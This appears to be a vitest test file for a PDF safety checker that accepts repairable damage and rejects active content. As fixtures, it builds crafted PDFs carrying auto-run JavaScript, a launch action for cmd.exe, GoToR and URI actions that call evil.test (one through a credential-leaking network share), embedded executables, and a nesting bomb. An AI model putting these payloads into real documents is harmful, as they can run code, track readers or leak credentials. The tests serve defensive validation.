import { deflateSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { withFile } from '../test/support/open-bytes.js';
import { pdf, pdfOfSize } from '../test/support/fixtures.js';
import { objectStream } from '../test/support/hostile-files.js';
import { checkPdf } from './pdf-check.js';

const check = (bytes: Buffer) => () => withFile(bytes, (file) => checkPdf(file));
/** A PDF around the objects (a catalog first), written byte for byte (compressed data is latin1). */
const withObjects = (objects: string, catalog = '') =>
  Buffer.from(
    `%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R ${catalog}>>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n${objects}\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n`,
    'latin1',
  );
const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
const opening = (action: string) =>
  withObjects(`4 0 obj\n${action}\nendobj\n`, '/OpenAction 4 0 R');

describe('checkPdf: damage readers repair is no reason to refuse', () => {
  it('accepts the small PDFs the other tests send, and a 20 MiB one', () => {
    expect(check(pdf())).not.toThrow();
    expect(check(pdfOfSize(20 * 1024 * 1024))).not.toThrow();
  });

  it('accepts a file with no index, a wrong /Length, no %%EOF, junk after the end', () => {
    const damaged = Buffer.from(
      '%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj\n3 0 obj << /Type /Page /Contents 4 0 R >> endobj\n4 0 obj << /Length 999 >> stream\nBT ET\nendstream endobj\nstartxref 123456\n\0\0\0 junk',
      'latin1',
    );
    expect(check(damaged)).not.toThrow();
  });

  it('reads an object stream whose /Length is an object inside another object stream (pdfTeX)', () => {
    const inner = objectStream({ 5: '<< /Type /Page >>' }).replace(/\/Length \d+/, '/Length 7 0 R');
    const length = /stream\n([\s\S]*)\nendstream/.exec(inner)?.[1]?.length ?? 0;
    const outer = objectStream({ 7: String(length) });
    expect(
      check(withObjects(`8 0 obj\n${outer}\nendobj\n9 0 obj\n${inner}\nendobj\n`)),
    ).not.toThrow();
  });

  it('accepts links, ordinary forms, moving within the document on opening, and an empty /EmbeddedFiles tree', () => {
    const link =
      '<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://verdalia.example/) >> >>';
    expect(check(withObjects(`4 0 obj\n${link}\nendobj\n`))).not.toThrow();
    expect(check(opening('<< /S /GoTo /D [3 0 R /Fit] >>'))).not.toThrow();
    expect(check(withObjects('', '/OpenAction [3 0 R /XYZ 0 792 0]'))).not.toThrow();
    expect(check(withObjects('', '/Names << /EmbeddedFiles << /Names [] >> >>'))).not.toThrow();
    const submit =
      '<< /Type /Annot /Subtype /Widget /A << /S /SubmitForm /F (https://forms.example/) >> >>';
    expect(
      check(withObjects(`4 0 obj\n${submit}\nendobj\n`, '/AcroForm << /Fields [4 0 R] >>')),
    ).not.toThrow();
  });
});

describe('checkPdf: active content wherever a reader could find it', () => {
  it('refuses JavaScript, also #xx-escaped and inside a deflated object stream', () => {
    expect(check(opening(script))).toThrow(/JavaScript/);
    expect(check(opening('<< /S /J#61va#53cript /J#53 (x) >>'))).toThrow(/JavaScript/);
    expect(
      check(withObjects(`9 0 obj\n${objectStream({ 4: script })}\nendobj\n`, '/OpenAction 4 0 R')),
    ).toThrow(/JavaScript/);
  });

  it('refuses an object the index could send a reader to inside a comment, a string or stream data', () => {
    expect(check(withObjects(`% 4 0 obj ${script} endobj\n`))).toThrow(/JavaScript/);
    expect(check(withObjects(`3 0 obj\n(4 0 obj ${script} endobj)\nendobj\n`))).toThrow(
      /JavaScript/,
    );
    expect(
      check(
        withObjects(
          `3 0 obj\n<< /Length 60 >>\nstream\n4 0 obj ${script} endobj\nendstream\nendobj\n`,
        ),
      ),
    ).toThrow(/JavaScript/);
  });

  it('reads an object stream both by its /Length and up to its first endstream', () => {
    expect(
      check(
        withObjects(
          `9 0 obj\n${objectStream({ 4: script }, { fakeEnd: true })}\nendobj\n`,
          '/OpenAction 4 0 R',
        ),
      ),
    ).toThrow(/JavaScript/);
  });

  it('refuses embedded files however referenced: /EF, a file attachment annotation, /AF, a name tree', () => {
    const attachment =
      '<< /Type /Annot /Subtype /FileAttachment /FS << /Type /Filespec /F (f.exe) >> >>';
    expect(check(withObjects(`4 0 obj\n${attachment}\nendobj\n`))).toThrow(/file attachment/);
    expect(check(withObjects('4 0 obj\n<< /F (f.exe) /EF << /F 5 0 R >> >>\nendobj\n'))).toThrow(
      /embedded file/,
    );
    expect(check(withObjects('', '/AF [4 0 R]'))).toThrow(/associated/);
    expect(check(withObjects('', '/Names << /EmbeddedFiles << /Names [(a) 4 0 R] >> >>'))).toThrow(
      /embedded file/,
    );
  });

  it('refuses launch actions, Rich Media and XFA forms', () => {
    expect(check(opening('<< /S /Launch /Win << /F (cmd.exe) >> >>'))).toThrow(/launch/);
    expect(check(withObjects('4 0 obj\n<< /Type /Annot /Subtype /RichMedia >>\nendobj\n'))).toThrow(
      /Rich Media/,
    );
    expect(
      check(
        withObjects(
          '4 0 obj\n[(template) 5 0 R]\nendobj\n',
          '/AcroForm << /Fields [] /XFA 4 0 R >>',
        ),
      ),
    ).toThrow(/XFA/);
  });

  it('refuses an action that fetches or sends by itself, on opening or on a page event', () => {
    expect(
      check(opening('<< /S /GoToR /F (\\\\\\\\evil.test\\\\share\\\\a.pdf) /D [0 /Fit] >>')),
    ).toThrow(/GoToR/);
    expect(check(opening('<< /S /SubmitForm /F (https://evil.test/) >>'))).toThrow(/SubmitForm/);
    expect(check(opening('<< /S /ImportData /F (data.fdf) >>'))).toThrow(/ImportData/);
    expect(check(opening('<< /S /URI /URI (https://evil.test/pixel) >>'))).toThrow(/URI/);
    expect(
      check(opening('<< /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (https://e.test/) >> >>')),
    ).toThrow(/URI/);
    const page =
      '3 0 obj\n<< /Type /Page /AA << /O << /S /URI /URI (https://evil.test/) >> >> >>\nendobj\n';
    expect(check(withObjects(page))).toThrow(/URI/);
  });

  it('refuses a clicked action that reaches a network share (it leaks Windows credentials)', () => {
    const link = '<< /Subtype /Link /A << /S /GoToR /F (//evil.test/share/a.pdf) /D [0 /Fit] >> >>';
    expect(check(withObjects(`4 0 obj\n${link}\nendobj\n`))).toThrow(/network|GoToR/);
  });

  it('takes a root its trailer names as a document, even without pages', () => {
    const stub = Buffer.from(
      '%PDF-1.4\n1 0 obj\n<< /Title (x) >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n',
    );
    expect(check(stub)).not.toThrow();
    expect(check(Buffer.from('%PDF-1.4\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n'))).toThrow(/catalog/);
  });

  it('refuses what is not a PDF a reader opens: a web page between %PDF and %%EOF', () => {
    const page = Buffer.from(
      '%PDF-1.4\n<html><script>location="https://evil.test/"</script></html>\n%%EOF\n',
    );
    expect(check(page)).toThrow(/catalog/);
  });

  it('refuses an object stream it cannot read (another filter, encrypted)', () => {
    const data = deflateSync(Buffer.from('4 0 << /Type /Page >>'));
    const lzw = `9 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /LZWDecode /Length ${data.length} >>\nstream\n${data.toString('latin1')}\nendstream\nendobj\n`;
    expect(check(withObjects(lzw))).toThrow(/LZWDecode/);
    const encrypted = objectStream({ 4: '<< >>' });
    const file = Buffer.from(
      withObjects(`9 0 obj\n${encrypted}\nendobj\n`)
        .toString('latin1')
        .replace('<< /Root 1 0 R >>', '<< /Root 1 0 R /Encrypt 5 0 R >>'),
      'latin1',
    );
    expect(check(file)).toThrow(/encrypted/);
  });

  it('refuses, within a bound of its size, a file whose objects nest inside each other by the thousand', () => {
    const nested = '1 0 obj [ '.repeat(200_000);
    expect(check(withObjects(nested))).toThrow(/more reading than its size/);
  });
});
